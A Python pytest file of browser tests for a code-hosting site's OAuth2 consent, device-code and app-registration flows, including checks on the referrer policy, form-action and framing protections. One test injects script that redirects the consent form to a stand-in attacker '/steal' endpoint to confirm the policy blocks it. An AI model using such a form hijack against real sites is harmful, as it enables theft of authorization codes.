"""Apps in a real Chromium: asked, allowed, sent back; what the policy of our pages has to let through."""

from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
from support import other_site
from support.browser import PASSWORD
from support.oauth import challenge

from bitpail.model.access import Client
from bitpail.services import oauth_consumers, oauth_devices, oauth_tokens, users, workspaces

AUTHORIZE = "/site/oauth2/authorize"
HERE = "/acme/workspace/settings/oauth-consumers"


@pytest.fixture
def their(bitpail):
    """The web server of an app."""
    with other_site.serving() as site:
        site.pages["/callback"] = "<!doctype html><title>Hello</title><link rel=icon href=data:,><p>Logged in"
        yield site


@pytest.fixture
def registered(bitpail, ada):
    """Registers an app in a workspace of Ada's; its consumer."""
    bitpail.workspace("acme", ada)

    def register(callback, **more):
        async def work(site):
            wanted = oauth_consumers.Wanted(
                name="Deploy bot", callback_url=callback, permissions=("account", "repository"), **more
            )
            owner, place = await users.named(site, "ada"), await workspaces.named(site, "acme")
            return (await oauth_consumers.create(site, place, wanted, by=owner))[0]

        return bitpail.do(work)

    return register


def asked(consumer, **more):
    values = {"response_type": "code", "client_id": consumer.key, "state": "st4te", **more}
    return f"{AUTHORIZE}?{urlencode(values)}"


def arrived(visitor, site, path="/callback"):
    """What the app was told."""
    visitor.page.wait_for_url(f"http://{site}{path}*")
    return {name: value[0] for name, value in parse_qs(urlsplit(visitor.page.url).query).items()}


def test_somebody_logs_in_allows_and_is_asked_no_more(visitor, their, registered, bitpail):
    visitor.hosts.add(their.cross_site)
    app = registered(f"http://{their.cross_site}/callback")

    visitor.go(asked(app))
    visitor.log_in()
    assert "May “Deploy bot” act for you?" in visitor.text
    visitor.press("Allow")
    first = arrived(visitor, their.cross_site)
    visitor.page.goto(bitpail.url + asked(app))
    second = arrived(visitor, their.cross_site)

    assert (first["state"], first["iss"]) == ("st4te", bitpail.url)
    assert first["code"] != second["code"]


def test_who_has_allowed_it_is_sent_on_from_the_log_in_at_once(visitor, their, registered, bitpail):
    visitor.hosts.add(their.cross_site)
    app = registered(f"http://{their.cross_site}/callback")
    visitor.go(asked(app))
    visitor.log_in()
    visitor.press("Allow")
    arrived(visitor, their.cross_site)
    visitor.context.clear_cookies()

    visitor.page.goto(bitpail.url + asked(app))
    visitor.fill(username="ada", password=PASSWORD)
    visitor.page.get_by_role("button", name="Log in", exact=True).click()

    assert "code" in arrived(visitor, their.cross_site)


def test_who_refuses_is_sent_back_without_a_code(inside, their, registered):
    inside.hosts.add(their.cross_site)
    app = registered(f"http://{their.cross_site}/callback")
    inside.go(asked(app))

    inside.press("Refuse")

    assert arrived(inside, their.cross_site)["error"] == "access_denied"


def test_the_app_is_sent_no_address_of_ours(inside, their, registered):
    """A code stands in an address: no page of ours, and none after it, may hand one on as a referrer."""
    inside.hosts.add(their.cross_site)
    app = registered(f"http://{their.cross_site}/callback")
    inside.go(asked(app))
    inside.press("Allow")
    arrived(inside, their.cross_site)

    assert inside.page.evaluate("document.referrer") == ""


def test_a_program_on_this_computer_gets_its_answer_at_the_port_that_it_has(inside, their, registered):
    port = urlsplit(f"http://{their.same_site}").port
    app = registered("http://127.0.0.1/callback", is_public=True)
    inside.hosts.add(f"127.0.0.1:{port}")
    inside.go(asked(app, redirect_uri=f"http://127.0.0.1:{port}/callback", **challenge()))
    assert "a program on this computer" in inside.text

    inside.press("Allow")

    assert "code" in arrived(inside, f"127.0.0.1:{port}")


def test_a_form_of_the_question_leads_to_the_app_and_nowhere_else(inside, their, registered):
    inside.hosts.add(their.cross_site)
    app = registered("https://app.example.org/callback")
    inside.go(asked(app))

    inside.page.evaluate(
        """host => {
            const form = document.querySelector("main form");
            form.action = `http://${host}/steal`;
            form.submit();
        }""",
        their.cross_site,
    )
    inside.page.wait_for_timeout(200)

    assert their.asked == []
    inside.blamed("form-action")


def test_the_question_can_not_be_framed_and_its_button_not_be_stolen(inside, bitpail, their, registered):
    app = registered("https://app.example.org/callback")
    inside.hosts.add(their.same_site)
    their.pages["/"] = f"<iframe src='{bitpail.url}{asked(app)}' name=victim></iframe>"

    inside.page.goto(f"http://{their.same_site}/")

    framed = inside.page.frame("victim")
    assert framed.url.startswith("chrome-error:")
    inside.complaints.clear()


def test_a_device_is_connected_by_its_code(visitor, bitpail, registered):
    app = registered("https://app.example.org/callback")
    who = oauth_tokens.App(app, is_proved=True)
    begun = bitpail.do(
        lambda site: oauth_devices.begin(site, who, "account", Client("192.0.2.1", "a device"))
    )

    visitor.go("/login/device")
    visitor.log_in()
    visitor.fill(user_code=begun.user_code.lower())
    visitor.press("Continue")
    assert begun.user_code in visitor.text
    assert "see your profile" in visitor.text
    visitor.press("Allow")

    assert "You can go back to your device." in visitor.text
    issued = bitpail.do(lambda site: oauth_tokens.by_device(site, who, begun.device_code))
    assert [*issued.scopes] == ["account"]
    visitor.go("/account/settings/app-authorizations/")
    assert "Deploy bot" in visitor.text
    visitor.page.get_by_role("link", name="Disconnect Deploy bot").click()
    visitor.press("Disconnect")
    assert "You have allowed no app anything." in visitor.text


def test_an_owner_registers_changes_and_deletes_an_app(inside, notes):
    inside.go(f"{HERE}/")
    inside.follow("Add consumer")
    inside.fill(name="Bot", callback_url="https://app.example.org/callback")
    inside.page.get_by_role("group", name="Repositories").get_by_label("Write").check()
    inside.press("Create")
    secret = inside.page.locator("#secret").input_value()
    inside.follow("I have it")
    assert "Repositories: Write" in inside.text
    inside.follow("Bot")
    inside.press("Make a new secret")
    assert inside.page.locator("#secret").input_value() != secret
    inside.follow("I have it")
    inside.page.get_by_role("link", name="Delete Bot").click()
    inside.press("Delete")

    assert "There is none yet." in inside.text
